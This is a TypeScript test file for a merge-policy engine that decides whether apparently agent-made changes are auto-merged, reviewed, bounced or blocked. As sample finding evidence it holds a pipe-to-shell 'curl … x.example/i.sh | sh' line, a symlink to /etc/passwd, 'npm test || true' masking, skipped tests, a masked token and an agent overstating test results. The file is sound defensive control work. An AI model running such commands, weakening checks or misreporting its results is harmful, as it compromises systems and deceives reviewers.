import { describe, expect, it } from 'vitest';
import { aFinding, aVote, OLD_DIGEST, PEOPLE, wholePolicy, writtenFacts } from '../../testing/policy-builders.ts';
import type { Decision, Disposition } from './decision.ts';
import { dispatchOf } from './dispatch.ts';
import { evaluatePolicy } from './evaluate.ts';
import type { PolicyFinding, PolicyReview } from './facts.ts';
import type { Dispatch } from './model.ts';

const POLICY = wholePolicy();

/** Roles in one order, whatever order a sentence has them in. */
const normal = (text: string): string =>
  text.replace(/[a-z-]+(?:\/[a-z-]+)+/g, (list) =>
    list.split('/').every((part) => ['admin', 'reviewer', 'senior-reviewer', 'security-admin'].includes(part))
      ? list.split('/').sort().join('/')
      : list,
  );
const words = (decision: Decision): string =>
  normal([...decision.because, ...decision.missing, ...decision.ignored.map(({ person, why }) => `${person} ${why}`)].join('\n'));

type Written = Readonly<Record<string, unknown>>;
const only = (...paths: readonly (string | Written)[]) => ({
  files: paths.map((path) => (typeof path === 'string' ? { path, added: 10, deleted: 2 } : path)),
});
const code = only('src/util.ts');
const check = (name: string, patch: Written) => ({
  checks: { results: { [name]: { conclusion: 'success', tree: '4'.repeat(40), ...patch } } },
});
const at = (path: string, line: number | null = null) => ({ at: { path, line } });
const found = (...findings: readonly PolicyFinding[]) => ({ findings });
const by = (...reviews: readonly PolicyReview[]) => ({ reviews });
const ALL_ITEMS = [
  'critical-path-traced',
  'boundaries-checked',
  'permissions-checked',
  'rollback-known',
  'checks-not-weakened',
  'no-new-execution-path',
];
const whole = (who: string, ...viewed: readonly string[]) =>
  aVote(who, { reason: 'Traced the callers; fine.', viewed, checklist: ALL_ITEMS });
const omar = aVote('omar');
const any = 'admin/reviewer/senior-reviewer';
const seniors = 'admin/senior-reviewer';
const outsideDocs = 'nearest automatic path grant-docs is held by: 1 of 1 touched paths outside docs: src/util.ts';

const SKIP = aFinding('TST-02', 'high', 'test_weakening', {
  ...at('test/util.test.ts', 41),
  evidence: '+ it.skip("rejects expired token", …)',
});
const skipped = { ...only('src/util.ts', 'test/util.test.ts'), ...found(SKIP) };
const TOKEN = aFinding('SEC-01', 'critical', 'secret', { evidence: 'GitHub token, masked ghp_****, entropy 4.9' });
const released = (userId: string, role: string) => ({
  rule: 'block-secret',
  userId,
  userName: userId,
  role,
  reason: 'A documented dummy.',
  artifactDigest: omar.artifactDigest,
});
const MASKED = aFinding('CI-01', 'high', 'ci_weakening', {
  ...at('.github/workflows/ci.yml', 22),
  evidence: '+ run: npm test || true',
});
const generated = only('src/generated/client.ts');
const identical = { evidence: { regenerated_identical: true } };
const sawAndTicked = (who: string, path: string, item: string) => aVote(who, { viewed: [path], checklist: [item] });

type Case = readonly [number | string, string, Written, Disposition, readonly string[]];
const CASES: readonly Case[] = [
  [
    1,
    'docs edit, all checks green, no risks',
    {},
    'AUTO_MERGE',
    [
      'grant-docs: all 1 touched paths are in docs; no touched path is in docs_executable, sensitive, control, vendored; only plain adds and edits; summary_present is true; total is 12 (<= 300); files is 1 (<= 20); no risk above low; required checks passed: build, unit-tests, lint; target is main',
    ],
  ],
  [2, 'docs edit, unit-tests still running', check('unit-tests', { conclusion: 'pending' }), 'WAIT', ['waiting for unit-tests']],
  [
    3,
    'docs edit, unit-tests skipped',
    check('unit-tests', { conclusion: 'skipped' }),
    'REVIEW',
    [
      'default-review: nearest automatic path grant-docs is held by: unit-tests is missing',
      `1 more from ${any} (0/1)`,
      'checks: unit-tests',
    ],
  ],
  [
    4,
    'docs edit, green status posted by the agent container',
    check('lint', { source: 'agent-container' }),
    'REVIEW',
    ['grant-docs is held by: lint is untrusted', 'checks: lint'],
  ],
  [
    5,
    'docs edit and a source file',
    only('docs/guide.md', 'src/util.ts'),
    'REVIEW',
    ['grant-docs is held by: 1 of 2 touched paths outside docs: src/util.ts', `1 more from ${any} (0/1)`],
  ],
  [
    6,
    'guard renamed into docs',
    only({ path: 'docs/guard.md', oldPath: 'src/auth/guard.ts', status: 'renamed', added: 0 }),
    'REVIEW',
    [
      'require-sensitive: src/auth/guard.ts matches sensitive (**/auth/**)',
      `1 more from ${seniors} (0/1)`,
      'a written reason',
      'matched files marked viewed',
    ],
  ],
  [
    7,
    'AGENTS.md and nothing else',
    only('AGENTS.md'),
    'REVIEW',
    [
      'require-control-plane-files: AGENTS.md matches control (**/AGENTS.md)',
      `1 more from ${seniors} (0/1)`,
      'a written reason',
      'matched files marked viewed',
    ],
  ],
  [
    8,
    'docs/intro.mdx',
    only('docs/intro.mdx'),
    'REVIEW',
    [
      'require-executable-docs: docs/intro.mdx matches docs_executable (**/*.mdx)',
      `1 more from ${any} (0/1)`,
      'matched files marked viewed',
    ],
  ],
  [
    9,
    'docs file becomes a symlink out',
    {
      ...only({ path: 'docs/readme.md', status: 'type_changed', newMode: '120000' }),
      ...found(
        aFinding('FS-01', 'critical', 'git_object', {
          ...at('docs/readme.md'),
          evidence: 'mode 100644→120000, target ../../../../etc/passwd leaves the repository',
        }),
      ),
    },
    'BLOCK',
    ['block-escape: FS-01 (critical) at docs/readme.md: mode 100644→120000, target ../../../../etc/passwd leaves the repository'],
  ],
  [
    10,
    'generated client, the generator gives the same bytes',
    { ...generated, ...identical },
    'AUTO_MERGE',
    [
      'grant-generated: all 1 touched paths are in generated; regenerated_identical is true; no risk above low; required checks passed: build, unit-tests, lint; target is main',
    ],
  ],
  [
    11,
    'generated client, the generator differs',
    { ...generated, evidence: { regenerated_identical: false } },
    'REVIEW',
    ['grant-generated is held by: regenerated_identical is false', `1 more from ${any} (0/1)`],
  ],
  [
    12,
    'generated client, no generator configured',
    generated,
    'REVIEW',
    ['grant-generated is held by: regenerated_identical is not established', `1 more from ${any} (0/1)`],
  ],
  [13, 'code, one eligible approval', { ...code, ...by(omar) }, 'APPROVED', [`default-review: ${outsideDocs}`]],
  [
    14,
    'code, approved by who asked',
    { ...code, ...by(aVote('rita')) },
    'REVIEW',
    [outsideDocs, `1 more from ${any} (0/1)`, 'rita asked for this task'],
  ],
  [
    15,
    'code, approved by a reviewer agent',
    { ...code, ...by(aVote('review-bot', { kind: 'agent', role: 'reviewer' })) },
    'REVIEW',
    [`1 more from ${any} (0/1)`, 'review-bot is not a person'],
  ],
  [
    16,
    'approved, then one more commit',
    { ...code, ...by(aVote('omar', { artifactDigest: OLD_DIGEST })) },
    'REVIEW',
    [`1 more from ${any} (0/1)`, 'omar approved an earlier version'],
  ],
  [
    17,
    'approved by somebody who pushed a fix',
    { ...code, ...by(omar), committerIds: ['omar'] },
    'REVIEW',
    [`1 more from ${any} (0/1)`, 'omar pushed commits to the branch'],
  ],
  [
    18,
    'one approves, another asked for changes before',
    { ...code, ...by(aVote('ines', { verdict: 'request_changes', artifactDigest: OLD_DIGEST }), omar) },
    'CHANGES_REQUESTED',
    ['ines asked for changes', 'has not cleared it'],
  ],
  [19, 'required check failed', { ...code, ...check('build', { conclusion: 'failure' }) }, 'BOUNCE', ['bounce-red-checks: failed: build']],
  [
    20,
    'required check failed for the third time',
    { ...code, ...check('build', { conclusion: 'failure' }), bounces: 2 },
    'REVIEW',
    [
      `default-review: ${outsideDocs}; build is failure`,
      'bounce-limit: already bounced 2 times',
      `1 more from ${any} (0/1)`,
      'checks: build',
    ],
  ],
  [
    21,
    'was red, now green; last round touched only tests',
    { ...only('src/util.ts', 'test/util.test.ts'), evidence: { previous_checks_failed: true }, lastRoundPaths: ['test/util.test.ts'] },
    'BOUNCE',
    ['bounce-tests-only-after-red: previous_checks_failed is true; last round changed only tests/snapshots'],
  ],
  [
    22,
    'it.skip next to a code change, green',
    { ...skipped, ...by(omar) },
    'REVIEW',
    [
      'require-test-weakening: TST-02 (high) at test/util.test.ts:41: + it.skip("rejects expired token", …)',
      'require-high-risk: TST-02 (high)',
      `1 more from ${any} (1/2)`,
      'a written reason',
      'checklist: checks-not-weakened',
      'an answer to each finding: TST-02',
    ],
  ],
  [
    23,
    'the same, two reviewers, reason, checklist, finding answered',
    {
      ...skipped,
      ...by(
        omar,
        aVote('ines', {
          reason: 'The case moved to another file.',
          checklist: ['checks-not-weakened'],
          acks: { 'TST-02-print': { answer: 1, reason: '' } },
        }),
      ),
    },
    'APPROVED',
    ['require-test-weakening: TST-02 (high)', 'require-high-risk: TST-02 (high)'],
  ],
  [
    '23b',
    'the same, but nobody answered the finding',
    { ...skipped, ...by(omar, aVote('ines', { reason: 'The case moved.', checklist: ['checks-not-weakened'] })) },
    'REVIEW',
    ['an answer to each finding: TST-02'],
  ],
  [
    24,
    'masked check in a workflow',
    { ...only('.github/workflows/ci.yml'), ...found(MASKED), ...by(whole('omar', '.github/workflows/ci.yml')) },
    'REVIEW',
    [
      'require-control-plane-files: .github/workflows/ci.yml matches control (.github/workflows/**)',
      'require-test-weakening: CI-01 (high) at .github/workflows/ci.yml:22: + run: npm test || true',
      'require-high-risk: CI-01 (high)',
      `1 more from ${seniors} (0/1)`,
      `1 more from ${any} (1/2)`,
      'an answer to each finding: CI-01',
    ],
  ],
  [
    25,
    'migration, one senior and one reviewer, reason, viewed, checklist',
    { ...only('db/migrations/0042_drop_col.sql'), ...by(whole('sol', 'db/migrations/0042_drop_col.sql'), omar) },
    'APPROVED',
    [
      'require-sensitive: db/migrations/0042_drop_col.sql matches sensitive (**/migrations/**)',
      'require-two-person: db/migrations/0042_drop_col.sql matches two_person (**/migrations/**)',
    ],
  ],
  [
    26,
    'migration, two plain reviewers',
    { ...only('db/migrations/0042_drop_col.sql'), ...by(whole('ines', 'db/migrations/0042_drop_col.sql'), omar) },
    'REVIEW',
    ['require-sensitive: db/migrations', 'require-two-person: db/migrations', `1 more from ${seniors} (0/1)`],
  ],
  [
    27,
    'unattended run touched billing',
    { ...only('src/billing/tax.ts'), task: { attended: false }, ...by(whole('sol', 'src/billing/tax.ts'), omar) },
    'REVIEW',
    [
      'require-sensitive: src/billing/tax.ts matches sensitive (**/billing/**)',
      'require-two-person: src/billing/tax.ts matches two_person (**/billing/**)',
      'require-unattended-sensitive-escape: attended is false; src/billing/tax.ts matches sensitive (**/billing/**)',
      '1 more from admin (0/1)',
    ],
  ],
  [
    28,
    'GitHub token in an added line',
    { ...code, ...found(TOKEN) },
    'BLOCK',
    ['block-secret: SEC-01 (critical) at src/util.ts:8: GitHub token, masked ghp_****, entropy 4.9'],
  ],
  [
    29,
    'secret scanner timed out on a docs change',
    { detectors: { secret: 'timeout' } },
    'HOLD',
    ['block-secret: detector secret timeout'],
  ],
  [
    30,
    'bidi override in a comment',
    {
      ...code,
      ...found(
        aFinding('UNI-01', 'critical', 'hidden_text', { ...at('src/util.ts', 3), evidence: 'U+202E RIGHT-TO-LEFT OVERRIDE at column 19' }),
      ),
    },
    'BLOCK',
    ['block-hidden-text: UNI-01 (critical) at src/util.ts:3: U+202E RIGHT-TO-LEFT OVERRIDE at column 19'],
  ],
  [
    31,
    'CODEOWNERS edited by the agent',
    only('.github/CODEOWNERS'),
    'BLOCK',
    ['block-policy-self-edit: .github/CODEOWNERS matches ownership (**/CODEOWNERS)'],
  ],
  [
    32,
    'lockfile only, new package 3 days old',
    {
      ...only('package-lock.json'),
      ...found(
        aFinding('DEP-02', 'medium', 'dependency', {
          ...at('package-lock.json'),
          evidence: '+ left-padd@1.0.0, published 3 days ago, 1 edit from left-pad',
        }),
      ),
      ...by(omar),
    },
    'REVIEW',
    [
      'require-dependency: package-lock.json matches lockfile (**/package-lock.json); DEP-02 (medium) at package-lock.json: + left-padd@1.0.0, published 3 days ago, 1 edit from left-pad',
      'checklist: package-is-the-intended-one',
    ],
  ],
  [
    33,
    '1,150 reviewable lines in 48 files',
    { ...only(...Array.from({ length: 48 }, (_, index) => `src/part-${index}.ts`)), reviewableTotal: 1_150, ...by(omar) },
    'REVIEW',
    [
      'require-oversize: reviewable_total is 1150 (> 400); files is 48 (> 30)',
      'all files marked viewed',
      'checklist: asked-to-split-or-accepted',
    ],
  ],
  [
    34,
    'a newline in the path',
    only('docs/gu\nide.md'),
    'HOLD',
    ['block-policy-self-edit: a path has control characters and cannot be classified'],
  ],
  [35, 'no summary', { ...code, evidence: { summary_present: false } }, 'BOUNCE', ['bounce-incomplete-artifact: summary_present is false']],
  [
    36,
    'docs edit for release/2.4',
    { targetBranch: 'release/2.4' },
    'REVIEW',
    ['grant-docs is held by: target is release/2.4', `1 more from ${any} (0/1)`],
  ],
  [
    37,
    'docs edit during a freeze',
    { freeze: { reason: 'holiday freeze until 2 Jan' } },
    'BLOCK',
    ['block-freeze: freeze: holiday freeze until 2 Jan'],
  ],
  [38, 'empty diff', { files: [] }, 'REVIEW', ['grant-docs is held by: the diff is empty', `1 more from ${any} (0/1)`]],
  [
    39,
    '.GitHub/Workflows/ci.yml',
    only('.GitHub/Workflows/ci.yml'),
    'REVIEW',
    [
      'require-control-plane-files: .GitHub/Workflows/ci.yml matches control (.github/workflows/**)',
      `1 more from ${seniors} (0/1)`,
      'a written reason',
      'matched files marked viewed',
    ],
  ],
  [
    40,
    'stale green checks',
    check('unit-tests', { isStale: true }),
    'REVIEW',
    ['grant-docs is held by: unit-tests is stale', `1 more from ${any} (0/1)`, 'checks: unit-tests'],
  ],
  [
    41,
    'secret released by a security admin',
    {
      ...code,
      ...found(TOKEN),
      releases: [released('sam', 'security-admin')],
      ...by(aVote('omar', { reason: 'Looked the token up.' })),
    },
    'REVIEW',
    [
      'require-high-risk: SEC-01 (critical) at src/util.ts:8: GitHub token',
      `1 more from ${any} (1/2)`,
      'an answer to each finding: SEC-01',
    ],
  ],
  [
    42,
    'the same release by the requester',
    { ...code, ...found(TOKEN), releases: [released('rita', 'security-admin')] },
    'BLOCK',
    ['block-secret: SEC-01 (critical) at src/util.ts:8: GitHub token'],
  ],
  [
    43,
    'the only finding was waived',
    {
      ...only('src/util.ts', 'test/util.test.ts'),
      ...found({ ...SKIP, waived: { by: 'ines', reason: 'Moved to another file.', expires: 1_800_000_000_000 } }),
      ...by(omar),
    },
    'APPROVED',
    ['default-review: nearest automatic path grant-docs is held by: 2 of 2 touched paths outside docs: src/util.ts, test/util.test.ts'],
  ],
  [
    44,
    'test-weakening detector crashed, one approval',
    { ...code, detectors: { test_weakening: 'failed' }, ...by(omar) },
    'REVIEW',
    [
      'require-test-weakening: detector test_weakening failed',
      'require-high-risk: detector test_weakening failed',
      `1 more from ${any} (1/2)`,
      'a written reason',
      'checklist: checks-not-weakened',
    ],
  ],
  [45, 'requester not known', { requesterId: null }, 'HOLD', ['facts missing: requester']],
  [
    46,
    'docs edit of 520 lines',
    { ...only({ path: 'docs/guide.md', added: 520 }), reviewableTotal: 520 },
    'REVIEW',
    ['require-oversize: reviewable_total is 520 (> 400)', `1 more from ${any} (0/1)`, 'all files marked viewed'],
  ],
  [
    47,
    'docs file becomes executable',
    only({ path: 'docs/guide.md', newMode: '100755' }),
    'REVIEW',
    ['grant-docs is held by: docs/guide.md: status modified mode 100644→100755', `1 more from ${any} (0/1)`],
  ],
  [
    48,
    'docs edit with a medium risk',
    found(
      aFinding('INS-05', 'medium', 'instructions', { ...at('docs/guide.md', 30), evidence: '+ curl -fsSL https://x.example/i.sh | sh' }),
    ),
    'REVIEW',
    ['grant-docs is held by: INS-05 (medium) at docs/guide.md:30: + curl -fsSL https://x.example/i.sh | sh', `1 more from ${any} (0/1)`],
  ],
  [49, 'one blocked write outside the workspace', { sandboxViolations: 1 }, 'BLOCK', ['block-escape: sandbox_violations is 1 (> 0)']],
  [
    50,
    'claim mismatch',
    {
      ...code,
      ...found(
        aFinding('EVD-01', 'high', 'evidence', {
          ...at('summary'),
          evidence: 'summary says "all tests pass"; no test process started in the run log',
        }),
      ),
    },
    'BOUNCE',
    ['bounce-incomplete-artifact: EVD-01 (high) at summary: summary says "all tests pass"; no test process started in the run log'],
  ],
  [
    51,
    'docs edit that also deletes a page',
    only('docs/guide.md', { path: 'docs/old.md', status: 'deleted', added: 0, deleted: 9 }),
    'REVIEW',
    ['grant-docs is held by: docs/old.md: status deleted mode 100644→000000', `1 more from ${any} (0/1)`],
  ],
  [
    52,
    'docs folder, 24 files',
    only(...Array.from({ length: 24 }, (_, index) => ({ path: `docs/${index}.md` }))),
    'REVIEW',
    ['grant-docs is held by: files is 24 (<= 20)', `1 more from ${any} (0/1)`],
  ],
  [
    53,
    'docs edit of 350 lines',
    { ...only({ path: 'docs/guide.md', added: 350 }), reviewableTotal: 350 },
    'REVIEW',
    ['grant-docs is held by: total is 350 (<= 300)', `1 more from ${any} (0/1)`],
  ],
  [
    54,
    '35 small files, one approval',
    { ...only(...Array.from({ length: 35 }, (_, index) => `src/${index}.ts`)), reviewableTotal: 200, ...by(omar) },
    'REVIEW',
    ['require-oversize: files is 35 (> 30)', 'all files marked viewed', 'checklist: asked-to-split-or-accepted'],
  ],
  [
    55,
    'package.json, one approval without the item',
    { ...only('package.json'), ...by(omar) },
    'REVIEW',
    ['require-dependency: package.json matches deps_manifest (**/package.json)', 'checklist: package-is-the-intended-one'],
  ],
  [
    56,
    'an import that no manifest declares',
    {
      ...only('src/a.ts'),
      ...found(
        aFinding('DEP-06', 'medium', 'dependency', { ...at('src/a.ts', 1), evidence: '+ import x from "fast-jsonn"; not in package.json' }),
      ),
      ...by(omar),
    },
    'REVIEW',
    [
      'require-dependency: DEP-06 (medium) at src/a.ts:1: + import x from "fast-jsonn"; not in package.json',
      'checklist: package-is-the-intended-one',
    ],
  ],
  [
    57,
    'generated, identical, but a minified blob',
    {
      ...generated,
      ...identical,
      ...found(aFinding('COD-03', 'medium', 'code', { ...at('src/generated/client.ts', 1), evidence: 'one line of 48,211 characters' })),
    },
    'REVIEW',
    ['grant-generated is held by: COD-03 (medium) at src/generated/client.ts:1: one line of 48,211 characters'],
  ],
  [
    58,
    'generated, identical, lint skipped',
    { ...generated, ...identical, ...check('lint', { conclusion: 'skipped' }) },
    'REVIEW',
    ['grant-generated is held by: lint is missing', 'checks: lint'],
  ],
  [
    59,
    'generated, identical, for release/2.4',
    { ...generated, ...identical, targetBranch: 'release/2.4' },
    'REVIEW',
    ['grant-generated is held by: target is release/2.4'],
  ],
  [60, 'hand-written, the generator says identical', { ...code, ...identical }, 'REVIEW', [outsideDocs]],
  [
    61,
    'docs/intro.mdx approved but not viewed',
    { ...only('docs/intro.mdx'), ...by(omar) },
    'REVIEW',
    ['require-executable-docs: docs/intro.mdx matches docs_executable (**/*.mdx)', 'matched files marked viewed'],
  ],
  [
    62,
    'summary never established',
    { evidence: { summary_present: null } },
    'REVIEW',
    ['grant-docs is held by: summary_present is not established', `1 more from ${any} (0/1)`],
  ],
  [63, 'freeze cannot be read', { freeze: null }, 'HOLD', ['block-freeze: freeze state is not known']],
  [64, 'reviews cannot be read', { reviews: null }, 'HOLD', ['facts missing: reviews']],
  [
    65,
    'a folder called session',
    { ...only('web/src/components/session/Row.tsx'), ...by(omar) },
    'APPROVED',
    ['1 of 1 touched paths outside docs: web/src/components/session/Row.tsx'],
  ],
  [66, 'src/author.ts', { ...only('src/author.ts'), ...by(omar) }, 'APPROVED', ['1 of 1 touched paths outside docs: src/author.ts']],
  [
    67,
    'src/requestAuthorization.ts, one plain reviewer',
    { ...only('src/requestAuthorization.ts'), ...by(whole('omar', 'src/requestAuthorization.ts')) },
    'REVIEW',
    [
      'require-sensitive: src/requestAuthorization.ts matches sensitive (**/*{authentic,authoriz,authoris}*.{ts,tsx,js,mjs,py,go,java,kt,rb,rs})',
      `1 more from ${seniors} (0/1)`,
    ],
  ],
  [
    68,
    'vendored oauth, one reviewer',
    { ...only('vendor/golang.org/x/oauth2/token.go'), ...by(omar) },
    'REVIEW',
    ['require-vendored: vendor/golang.org/x/oauth2/token.go matches vendored (vendor/**)', 'checklist: package-is-the-intended-one'],
  ],
  [69, '.env.example', { ...only('.env.example'), ...by(omar) }, 'APPROVED', ['1 of 1 touched paths outside docs: .env.example']],
  [
    70,
    '.env.production, one senior',
    { ...only('.env.production'), ...by(whole('sol', '.env.production')) },
    'REVIEW',
    [
      'require-sensitive: .env.production matches sensitive (**/.env.!(*example*|*sample*|*template*))',
      'require-two-person: .env.production matches two_person (**/.env.!(*example*|*sample*|*template*))',
      `1 more from ${any} (1/2)`,
    ],
  ],
  [
    71,
    'auth and vendor together, one plain reviewer',
    {
      ...only('src/auth/token.ts', 'vendor/x.go'),
      ...by(
        aVote('omar', {
          reason: 'Read both.',
          viewed: ['src/auth/token.ts'],
          checklist: [...ALL_ITEMS, 'package-is-the-intended-one'],
        }),
      ),
    },
    'REVIEW',
    [
      'require-sensitive: src/auth/token.ts matches sensitive (**/auth/**)',
      'require-vendored: vendor/x.go matches vendored (vendor/**)',
      `1 more from ${seniors} (0/1)`,
    ],
  ],
  [
    72,
    'a vendor folder is not an excuse',
    { ...only({ path: 'src/auth/vendor/x.ts', status: 'added' }), ...by(whole('omar', 'src/auth/vendor/x.ts')) },
    'REVIEW',
    ['require-sensitive: src/auth/vendor/x.ts matches sensitive (**/auth/**)', `1 more from ${seniors} (0/1)`],
  ],
  [
    73,
    'terraform, one senior with everything',
    { ...only('infra/main.tf'), ...by(whole('sol', 'infra/main.tf')) },
    'APPROVED',
    ['require-sensitive: infra/main.tf matches sensitive (**/*.tf)'],
  ],
];

describe('the whole policy', () => {
  it('has every case of its design', () => expect(CASES.length).toBe(74));

  it.each(CASES.map(([number, says, facts, disposition, sentences]) => ({ number, says, facts, disposition, sentences })))(
    '$number: $says',
    ({ facts, disposition, sentences }) => {
      const decision = evaluatePolicy(POLICY, writtenFacts(POLICY, facts), PEOPLE);
      expect({ disposition: decision.disposition, because: decision.because }).toMatchObject({ disposition });
      for (const sentence of sentences) expect(words(decision)).toContain(normal(sentence));
      if (disposition === 'APPROVED' || disposition === 'AUTO_MERGE') expect(decision.missing).toEqual([]);
    },
  );

  it.each([
    { number: 67, who: 'omar', path: 'src/requestAuthorization.ts', missing: [`1 more from ${seniors} (0/1)`] },
    { number: 72, who: 'omar', path: 'src/auth/vendor/x.ts', missing: [`1 more from ${seniors} (0/1)`] },
  ])('$number asks for nothing else', ({ who, path, missing }) => {
    const decision = evaluatePolicy(POLICY, writtenFacts(POLICY, { ...only(path), ...by(whole(who, path)) }), PEOPLE);
    expect(decision.missing.map(normal)).toEqual(missing);
  });

  it('says as data what an approval still has to bring', () => {
    const facts = writtenFacts(POLICY, {
      ...only('AGENTS.md', 'src/a.ts'),
      ...found(MASKED),
      ...by(sawAndTicked('omar', 'src/a.ts', 'x')),
    });
    const decision = evaluatePolicy(POLICY, facts, PEOPLE);
    expect(decision.asks).toEqual({
      reason: true,
      checklist: ['checks-not-weakened', 'no-new-execution-path'],
      viewed: { which: 'matched', paths: ['AGENTS.md'] },
      findings: [{ id: 'CI-01', fingerprint: 'CI-01-print' }],
      threads: false,
      reauth: false,
      cooldownUntil: null,
    });
    expect(decision.needs).toEqual([
      { count: 2, roles: ['reviewer', 'senior-reviewer', 'admin'], have: ['omar'], missing: 1, candidates: ['ada', 'alex', 'ines', 'sol'] },
      { count: 1, roles: ['senior-reviewer', 'admin'], have: [], missing: 1, candidates: ['ada', 'alex', 'sol'] },
    ]);
  });
});

type DispatchCase = readonly [string, string, Written, Dispatch, string];
const DISPATCHES: readonly DispatchCase[] = [
  ['D1', 'docs task, no special capability', {}, 'unattended', 'no rule applies'],
  [
    'D2',
    'declares db/migrations/',
    { allowedPaths: ['db/migrations/0042.sql'] },
    'attended',
    'dispatch-needs-human: declared path db/migrations/0042.sql is in sensitive',
  ],
  ['D3', 'asks for db_write', { capabilities: ['db_write'] }, 'attended', 'dispatch-needs-human: capabilities has db_write'],
  [
    'D4',
    'wants production credentials',
    { capabilities: ['prod_credentials'] },
    'deny',
    'dispatch-deny-prod-credentials: capabilities has prod_credentials',
  ],
  ['D5', 'text from a public issue', { source: 'external_issue' }, 'attended', 'dispatch-untrusted-origin: source has external_issue'],
  ['D6', 'declares no paths at all', { allowedPaths: [] }, 'attended', 'dispatch-needs-human: the task declares no paths'],
];

describe('the whole policy before a run', () => {
  it.each(DISPATCHES.map(([number, says, task, dispatch, because]) => ({ number, says, task, dispatch, because })))(
    '$number: $says',
    ({ task, dispatch, because }) => {
      const decision = dispatchOf(POLICY, writtenFacts(POLICY, { task }));
      expect(decision.dispatch).toBe(dispatch);
      expect(decision.because.join('\n')).toContain(because);
    },
  );
});
